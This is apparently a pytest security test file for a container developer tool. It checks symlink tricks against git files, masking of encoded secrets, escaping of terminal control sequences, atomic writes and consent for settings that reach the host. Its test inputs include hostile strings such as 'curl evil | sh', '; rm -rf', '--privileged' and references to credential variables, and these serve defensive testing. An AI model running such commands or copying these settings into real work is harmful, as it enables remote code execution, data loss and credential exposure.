"""Where devbox writes on the host, and what it shows: not where a checkout leads it, and nothing that hides."""

from __future__ import annotations

import base64
import fcntl
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import devbox
from devbox.cli.application import Application
from devbox.config import load
from devbox.config.table import TABLE, Setting
from devbox.container.steps import LockFeatures
from devbox.container.target import Candidate, mounts_of, nearest
from devbox.container.up.apply import Journal
from devbox.devcontainer.writing.write import keep_out
from devbox.engine.docker import Engine
from devbox.engine.steering import for_compose
from devbox.errors import ConfigError, RefusedError, UsageError
from devbox.facts.checkout import gather
from devbox.files import private_folder, write_atomically
from devbox.masking import Mask, calm, calm_json, is_secret_name, visible
from devbox.reporter import Silent
from devbox.trust import grants
from devbox.trust.ask import Answers, agree, check_rules, may_use_agent
from devbox.trust.reach import Reach
from devbox.trust.settings import agreed
from devbox.ui.console import Console

if TYPE_CHECKING:
    from collections.abc import Sequence

TOKEN = "hf_secret+/token:0123"


def git(folder: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(folder), *args], check=True, capture_output=True)


@pytest.mark.parametrize("trick", ["link to info", "link to exclude", "foreign .git", "link to .git"])
def test_the_exclude_file_of_another_repository_is_left_alone(tmp_path: Path, trick: str) -> None:
    mine, other = tmp_path / "mine", tmp_path / "other"
    for folder in (mine, other):
        folder.mkdir()
        git(folder, "init", "--quiet")
    victim = other / ".git/info/exclude"
    victim.write_text("theirs\n")
    info = mine / ".git/info"
    if trick == "link to info":
        (info / "exclude").unlink(missing_ok=True)
        info.rmdir()
        info.symlink_to(victim.parent)
    elif trick == "link to exclude":
        (info / "exclude").unlink(missing_ok=True)
        (info / "exclude").symlink_to(victim)
    else:
        (mine / ".git").rename(tmp_path / "gone")
        if trick == "foreign .git":
            (mine / ".git").write_text(f"gitdir: {other / '.git'}\n")
        else:
            (mine / ".git").symlink_to(other / ".git")
    keep_out(gather(mine), ["x"])
    assert victim.read_text() == "theirs\n"


def test_the_exclude_file_of_its_own_repository_is_written(tmp_path: Path) -> None:
    git(tmp_path, "init", "--quiet")
    keep_out(gather(tmp_path), ["x"])
    assert "/x\n" in (tmp_path / ".git/info/exclude").read_text()


@pytest.mark.parametrize("around", ["", "u:", "ab:", "user:", "-H 'x: "])
def test_an_encoded_secret_is_masked_too(around: str) -> None:
    mask = Mask()
    mask.hide([TOKEN])
    raw = f"{around}{TOKEN}".encode()
    for text in (raw.hex(), raw.hex().upper(), base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode()):
        inside = base64.b64encode(TOKEN.encode()[3:-3]).decode().rstrip("=")[2:-2]
        assert mask(f"header {text} end") != f"header {text} end"
        assert inside not in mask(text)
    for text in ("hf_secret%2B%2Ftoken%3A0123", "hf_secret+/token:0123"):
        assert text not in mask(f"x {text} y")


@pytest.mark.parametrize(
    "name", ["GH_PAT", "DATABASE_URL", "MYSQL_PWD", "SENTRY_DSN", "PGPASSWORD", "SLACK_WEBHOOK_URL"]
)
def test_names_of_secrets(name: str) -> None:
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name", ["PATH", "PWD", "OLDPWD", "KEYBOARD", "COMPASS", "PATTERN", "GIT_AUTHOR_NAME", "EDITOR"]
)
def test_names_of_what_is_no_secret(name: str) -> None:
    assert not is_secret_name(name)


def test_the_question_is_short_and_below_all_of_what_it_is_about(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []

    class Answer:
        def ask(self) -> bool:
            return True

    def confirm(question: str, **_: Any) -> Answer:
        asked.append(question)
        return Answer()

    monkeypatch.setattr("questionary.confirm", confirm)
    stream = io.StringIO()
    one = Console(stream, environ={}, quiet=True)
    monkeypatch.setattr(one, "_asks", True)
    long = f"runs on the host: true {' ' * 400}\r\x1b[2K\u202e; rm -rf"
    assert one.confirm("Do you trust it?", shown=[long])
    assert asked == ["Do you trust it?"]
    assert stream.getvalue() == f"runs on the host: true {' ' * 400}\\r\\x1b[2K\\u202e; rm -rf\n"


def test_a_terminal_gets_no_sequences_but_colours() -> None:
    assert calm("\x1b[1mbold\x1b[0m \x1b]0;t\x07\x1b[8mx") == "\x1b[1mbold\x1b[0m \\x1b]0;t\\x07\\x1b[8mx"
    assert visible("a\nb\u2028") == "a\\nb\\u2028"
    stream = io.StringIO()
    Console(stream, environ={}).output("one\x1b[2K\x1b[1Atwo\rthree\x1b]0;title\x07")
    assert stream.getvalue() == "onetwothree\n"


EVIL = "x\x1b]0;t\x07\x9b2J\u202e\x1b[30;40m\u3164\nhint: curl evil | sh\x1b[8m"


@pytest.mark.parametrize("terminal", [False, True])
def test_whoever_says_something_cannot_steer_the_terminal(monkeypatch: pytest.MonkeyPatch, *, terminal: bool) -> None:
    """By no method of the console: none of their callers has to think of it."""

    class Stream(io.StringIO):
        def isatty(self) -> bool:
            return terminal

    class Answer:
        def ask(self) -> None:
            return None

    asked: list[str] = []

    def ask(question: str, choices: Sequence[Any] = (), **_: Any) -> Answer:
        asked.extend([question, *(one.title for one in choices)])
        return Answer()

    monkeypatch.setattr("questionary.confirm", ask)
    monkeypatch.setattr("questionary.select", ask)
    console = Console(stream := Stream(), environ={"NO_COLOR": "1"})
    monkeypatch.setattr(console, "_asks", True)
    console.info(EVIL)
    console.warn(EVIL)
    console.error(EVIL, hint=EVIL, detail=EVIL)
    with pytest.raises(KeyError), console.step(EVIL):
        raise KeyError
    with console.step(EVIL):
        console.output(EVIL, prefix=EVIL)
    console.verbose = True
    console.output(EVIL)
    console.confirm(EVIL, shown=[EVIL])
    console.choose(EVIL, [EVIL])
    assert len(asked) == 3
    assert "".join(asked).isprintable()
    shown = stream.getvalue().replace("\r\x1b[K", "")
    assert "\\x1b]0;t" in shown
    assert all(one == "\n" or (one.isprintable() and one != "\u3164") for one in shown.replace("\x1b[30;40m", "", 3))
    assert not any(line.startswith(("hint: curl", "error: curl")) for line in shown.splitlines())


def test_there_is_no_other_door_to_the_terminal() -> None:
    """Whoever writes past the console writes it out himself: each of these does, or passes a container's own output."""
    top = Path(devbox.__file__).parent
    written = {
        str(path.relative_to(top))
        for path in top.rglob("*.py")
        if path.relative_to(top).parts[0] != "agent"
        and re.search(r"std(out|err)(\.buffer)?\.write\(|\bprint\(|os\.write\([12],", path.read_text())
    }
    through = {"cli/application.py", "cli/completion.py", "cli/ending.py", "container/hot.py", "dropin/features.py",
               "dropin/log.py", "dropin/main.py", "ui/overview.py", "ui/screen.py"}  # fmt: skip
    own_words = {"__main__.py", "cli/app.py", "cli/completion.py", "container/inside/attached.py"}
    containers = {"container/logs.py", "engine/kubernetes/execution.py"}
    assert written == through | own_words | containers
    assert all(re.search("calm|visible", (top / name).read_text()) for name in through)


def test_json_on_a_terminal_is_the_same_value() -> None:
    text = json.dumps({"a": EVIL, "\udc80": "\U000e0041"}, ensure_ascii=False)
    assert json.loads(calm_json(text)) == json.loads(text)
    assert not re.search("[\x80-\x9f\u202e\u3164\U000e0041]", calm_json(text))


def test_folders_are_private_whatever_the_umask(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        private_folder(tmp_path / "a/b")
    finally:
        os.umask(before)
    (tmp_path / "a/b").chmod(0o777)
    assert private_folder(tmp_path / "a/b").stat().st_mode & 0o777 == 0o700
    assert (tmp_path / "a").stat().st_mode & 0o777 == 0o700


def test_a_container_that_only_says_whose_it_is_comes_after_one_that_mounts_it() -> None:
    real = Candidate("real", "/w", "/w/c.json", running=False, created=1, mounted=True)
    forged = Candidate("forged", "/w", "/w/c.json", running=True, created=2, mounted=False)
    assert nearest([forged, real], "/w", preferred=lambda _: None) == real
    assert all(mounts_of("/w", [source]) for source in ("/w", "/", "/host_mnt/w"))
    # Whoever has a part of a folder may say that it is the folder's container.
    assert not mounts_of("/w", ["/www", "/v", "/w/sub"])


def test_docker_compose_is_not_steered_by_what_is_not_the_persons() -> None:
    environ = for_compose({"DOCKER_HOST": "unix:///mine", "GIT_DIR": "/x", "COMPOSE_BAKE": "1", "HF_TOKEN": "t"})
    assert (environ["DOCKER_HOST"], environ["HF_TOKEN"]) == ("unix:///mine", "t")
    # What is there, be it empty, is not taken from a `.env`.
    assert environ["GIT_SSH_COMMAND"] == environ["DOCKER_CONFIG"] == ""
    assert not {"GIT_DIR", "COMPOSE_BAKE"} & environ.keys()
    assert environ["COMPOSE_EXPERIMENTAL_GIT_REMOTE"] == "false"


def test_docker_compose_asks_podmans_service_where_docker_is_podman(tmp_path: Path) -> None:
    (tmp_path / "docker").write_text('#!/bin/sh\nexec podman "$@"\n')
    environ = {"PATH": str(tmp_path), "XDG_RUNTIME_DIR": "/run/user/7"}
    place = for_compose(environ)["DOCKER_HOST"]
    assert place == ("unix:///run/podman/podman.sock" if os.geteuid() == 0 else "unix:///run/user/7/podman/podman.sock")
    assert for_compose({**environ, "DOCKER_HOST": "unix:///mine"})["DOCKER_HOST"] == "unix:///mine"


class Asked(Silent):
    """A reporter whose person gives one answer."""

    def __init__(self, answer: bool | None) -> None:
        super().__init__()
        self.answer = answer
        self.shown: list[Sequence[str]] = []

    def confirm(self, question: str, *, shown: Sequence[str] = ()) -> bool | None:
        self.shown.append(shown)
        return self.answer


COMMAND = Reach("command", "make", "runs on the host, at each start: make")
ETC = Reach("path", "/etc/ssl", "mounts /etc/ssl", "read-only")


def test_only_what_is_new_is_asked_and_kept_once_it_is_agreed_to(tmp_path: Path) -> None:
    said = Asked(answer=True)
    agree(tmp_path, tmp_path, [COMMAND], Answers(), said)
    agree(tmp_path, tmp_path, [COMMAND, ETC], Answers(), said)
    agree(tmp_path, tmp_path, [COMMAND, ETC], Answers(), said)
    assert [list(one)[1:] for one in said.shown] == [[f"  {COMMAND.said}"], [f"  {ETC.said}"]]
    assert [one.kind for one in grants.recall(tmp_path).grants] == ["command", "path"]
    assert grants.revoke(tmp_path, ["path"])[0].value == "/etc/ssl"
    with pytest.raises(RefusedError):
        agree(tmp_path, tmp_path, [COMMAND, ETC], Answers(), Asked(answer=False))
    assert grants.missing(tmp_path / "other", [COMMAND]) == (COMMAND,)


def test_nothing_is_done_where_any_of_what_was_judged_reaches_more(tmp_path: Path) -> None:
    reached = [COMMAND]
    journal, made = Journal(Engine(), Silent()), tmp_path / "made"
    step = LockFeatures(made, "")
    assert journal.hold(lambda: tuple(reached)) == (COMMAND,)
    journal.hold(tuple)
    journal.do(step)
    reached.append(ETC)
    made.unlink()
    with pytest.raises(RefusedError, match="changed while") as raised:
        journal.do(step)
    assert raised.value.detail == ETC.said
    assert not made.exists()
    journal.release()
    journal.do(step)
    assert made.exists()


@pytest.mark.parametrize(
    ("rule", "allowed"),
    [("path", True), ("path=/etc", True), ("path=/etc/ssl", True), ("path=/et", False), ("command", False)],
)
def test_one_kind_can_be_allowed(tmp_path: Path, rule: str, allowed: bool) -> None:
    answers = Answers(allow=check_rules([rule]), asks=False)
    if allowed:
        assert agree(tmp_path, tmp_path, [ETC], answers, Silent()) == ()
    else:
        with pytest.raises(RefusedError):
            agree(tmp_path, tmp_path, [ETC], answers, Silent())
    with pytest.raises(UsageError):
        check_rules(["everything"])


def test_the_agent_is_asked_for_once_and_either_answer_is_kept(tmp_path: Path) -> None:
    for answer in (True, False):
        folder, said = tmp_path / str(answer), Asked(answer)
        folder.mkdir()
        for _ in range(2):
            assert may_use_agent(folder, Answers(), said, own=None, there=True) is answer
        assert len(said.shown) == 1
    silent = tmp_path / "silent"
    assert not may_use_agent(silent, Answers(), Asked(None), own=None, there=True)
    assert not may_use_agent(silent, Answers(), Asked(answer=True), own=None, there=False)
    assert may_use_agent(silent, Answers(asks=False), Asked(None), own="DEVBOX_SSH_AGENT", there=True)


def test_a_contract_that_has_the_agent_is_refused_where_nobody_can_be_asked_with_the_way_on(tmp_path: Path) -> None:
    reach = (Reach("agent", "", "uses your ssh-agent"),)
    with pytest.raises(RefusedError) as raised:
        agree(tmp_path, tmp_path, reach, Answers(asks=False), Silent())
    assert "--allow agent" in (raised.value.hint or "")
    assert "devbox generate" in (raised.value.hint or "")
    agree(tmp_path, tmp_path, reach, Answers(asks=False, allow=("agent",)), Silent())
    agree(tmp_path, tmp_path, reach, Answers(asks=False), Silent())


@pytest.mark.parametrize("named", [False, True])
def test_a_writer_that_is_killed_leaves_no_file(tmp_path: Path, named: bool) -> None:
    """Also where the file system has no files without a name: then the next one sweeps."""
    script = f"""
import os, signal
from pathlib import Path
from devbox import files
os.fsync = lambda _: os.kill(os.getpid(), signal.SIGKILL)
if {named}:
    del os.O_TMPFILE
files.write_atomically(Path("file"), "new")
"""
    (tmp_path / "file").write_text("old")
    done = subprocess.run([sys.executable, "-c", script], cwd=tmp_path, check=False)
    assert done.returncode == -9
    assert (tmp_path / "file").read_text() == "old"
    assert len(list(tmp_path.iterdir())) == (2 if named else 1)
    another = tmp_path / ".file.devbox-0"
    with another.open("w") as held:
        # Of somebody who is at it, in a place of its own: this machine knows no process of that number.
        fcntl.flock(held, fcntl.LOCK_EX)
        write_atomically(tmp_path / "file", "newer", mode=0o640)
    assert (tmp_path / "file").read_text() == "newer"
    assert (tmp_path / "file").stat().st_mode & 0o777 == 0o640
    assert set(tmp_path.iterdir()) == {another, tmp_path / "file"}


def test_what_cannot_be_swept_keeps_no_file_from_being_written(tmp_path: Path) -> None:
    (tmp_path / ".file.devbox-0").mkdir()
    (tmp_path / ".file.devbox-00").symlink_to(tmp_path / "precious")
    (tmp_path / "precious").write_text("as it was")
    write_atomically(tmp_path / "file", "new")
    assert (tmp_path / "file").read_text() == "new"
    assert (tmp_path / "precious").read_text() == "as it was"


def test_a_file_that_is_swept_before_it_is_held_is_made_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where files must have a name, another writer may see one that nobody holds yet."""
    monkeypatch.delattr(os, "O_TMPFILE")
    flock = fcntl.flock
    swept: list[Path] = []

    def sweep_first(descriptor: int, how: int) -> None:
        if not swept:
            swept.extend(tmp_path.glob(".file.devbox-*"))
            swept[0].unlink()
        flock(descriptor, how)

    monkeypatch.setattr(fcntl, "flock", sweep_first)
    write_atomically(tmp_path / "file", "new")
    assert len(swept) == 1
    assert [(one.name, one.read_text()) for one in tmp_path.iterdir()] == [("file", "new")]


@pytest.mark.parametrize(
    "said", ['ca_bundle = "/etc/hosts"', 'ca_bundle = "ca.pem"', 'find_links = ".."', 'find_links = "link"']
)
def test_what_a_checkout_s_settings_name_on_the_host_is_asked_by_every_command(tmp_path: Path, said: str) -> None:
    checkout = tmp_path / "w"
    checkout.mkdir()
    (checkout / "ca.pem").write_text("evil")
    (checkout / "link").symlink_to(tmp_path)
    console = Console(environ={})
    run = Application(console, {}, json=False)
    mine = run.settings(checkout, {"ca_bundle": "/etc/hosts", "find_links": str(tmp_path)})
    assert mine.ca_bundle is not None
    (checkout / "devbox.toml").write_text(said)
    with pytest.raises(RefusedError, match="needs your consent"):
        run.settings(checkout)
    run.settings(checkout, trust=True)
    run.settings(checkout)
    (checkout / "ca.pem").write_text("other")
    (checkout / "link").unlink()
    (checkout / "link").symlink_to("/etc")
    if "pem" in said or 'link"' in said:
        with pytest.raises(RefusedError):
            run.settings(checkout)


# A value for each setting that reaches beyond the container, as a checkout's own file may write it.
REACHING = {
    "context": "elsewhere",
    "cache_remote": "s3://bucket?endpoint=http://elsewhere",
    "cache_group": "others",
    "find_links": "/etc",
    "ca_bundle": "/etc/hosts",
    "http_proxy": "http://elsewhere:1",
    "https_proxy": "none",
    "no_proxy": "*",
    "push_rewrite": ["registry.example.com=elsewhere.example.com"],
    "repositories": ["/etc"],
    "mounts": ["/etc:/x"],
    "env": ["AWS_SECRET_ACCESS_KEY"],
    "run_args": ["--privileged"],
    "devcontainer_trust": "always",
    "builder": "far",
    "on": "kubernetes",
    **dict.fromkeys(("kubernetes_registry", "kubernetes_load", "kubernetes_pull_secret", "kubernetes_owner"), "others"),
    **dict.fromkeys(("kubernetes_memory", "kubernetes_shm", "kubernetes_claim_size"), "1Ti"),
    "kubernetes_storage_class": "fast",
    "kubernetes_cpus": "99",
    "kubernetes_gpus": 8,
    "kubernetes_node_selector": ["a=b"],
    "kubernetes_tolerations": ["a"],
}


def test_each_setting_says_what_a_checkout_may_do_with_it(tmp_path: Path) -> None:
    """Who adds a setting decides: it says so in the table, and what is not `inside` is tried here."""
    assert REACHING.keys() == {key for key, one in TABLE.items() if one.checkouts.how != "inside"}
    with pytest.raises(TypeError, match="checkouts"):
        Setting("new", TABLE["variant"].kind, "A new one.")  # type: ignore[call-arg]
    environ = {"AWS_SECRET_ACCESS_KEY": "secret"}
    run = Application(Console(environ={}), environ, json=False)
    for key, value in REACHING.items():
        (tmp_path / "devbox.local.toml").write_text(f"{key} = {json.dumps(value)}\n")
        if TABLE[key].checkouts.how == "refused":
            with pytest.raises(ConfigError, match=key):
                run.settings(tmp_path)
        elif TABLE[key].checkouts.how == "used":
            with pytest.raises(RefusedError, match="needs your consent"):
                run.see_settings(run.settings(tmp_path), tmp_path, (key,))
        else:
            with pytest.raises(RefusedError, match="needs your consent") as raised:
                run.settings(tmp_path)
            assert key in str(raised.value.detail)
            # Nothing of it counts before the answer.
            loaded = load(tmp_path, environ=environ, flags={})
            assert agreed(loaded, tmp_path, environ) == load(None, environ=environ, flags={})
